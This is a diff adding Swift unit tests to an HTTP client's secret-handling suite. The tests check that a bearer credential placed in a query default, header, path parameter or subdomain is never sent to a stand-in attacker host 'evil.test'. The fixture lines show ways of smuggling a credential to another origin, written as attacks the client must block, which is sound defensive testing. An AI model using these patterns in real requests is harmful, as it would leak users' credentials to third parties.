@@ -55,6 +55,38 @@ struct SecretTests {
     #expect(outcome == "GET \(target)" + (isTrusted ? "\nAuthorization: Bearer t" : ""))
   }
 
+  /// A default that a credential stands in is as secret as the credential.
+  @Test(arguments: [
+    (#"GET https://evil.test/x (t = "${T}")"#, "GET https://evil.test/x"),
+    (#"GET https://evil.test/x (header.X-Foo = "${T}")"#, "GET https://evil.test/x"),
+    (
+      #"POST https://evil.test/x (t = "${T}")"#,
+      "arguments: 't' is secret and does not go to another origin than the base: 'redirects.trust' allows it"
+    ),
+    (
+      #"GET https://evil.test/{a} (path.a = "${T}")"#,
+      "arguments: 'a' is secret and does not go to another origin than the base: 'redirects.trust' allows it"
+    ),
+    (
+      "GET https://${T}.evil.test/x",
+      "arguments: the variable 'T' is a credential of the base and does not go to another origin: 'redirects.trust' allows it"
+    ),
+    (
+      #"GET https://{r}.evil.test/x (path.r = "${T}")"#,
+      "arguments: 'r' is secret and does not go to another origin than the base: 'redirects.trust' allows it"
+    ),
+  ])
+  func aDefaultDoesNotCarryACredentialAway(line: String, gives: String) throws {
+    let yaml = "base: https://api.test\nauth: bearer ${T}\nendpoints:\n  e: '\(line)'"
+    #expect(try bound(yaml, variables: ["T": "s3cr3t"]) == gives)
+  }
+
+  @Test func aDefaultWithACredentialMakesTheBodySecret() throws {
+    let yaml = "base: https://api.test\nauth: bearer ${T}\nendpoints:\n  e: 'POST multipart /x (t = \"${T}\")'"
+    let client = Client(try Spec.load(yaml: yaml, trust: .folder), variables: ["T": "s3cr3t"], transport: Canned())
+    #expect(try client.prepare("e").request.bodyHoldsSecret)
+  }
+
   @Test(arguments: ["https://api.test/y", "https://API.test:443/y"])
   func theSameOriginKeepsThem(target: String) throws {
     let outcome = try bound("base: https://api.test\nauth: bearer ${T}\nendpoints: {e: GET \(target)}", variables: ["T": "t"])
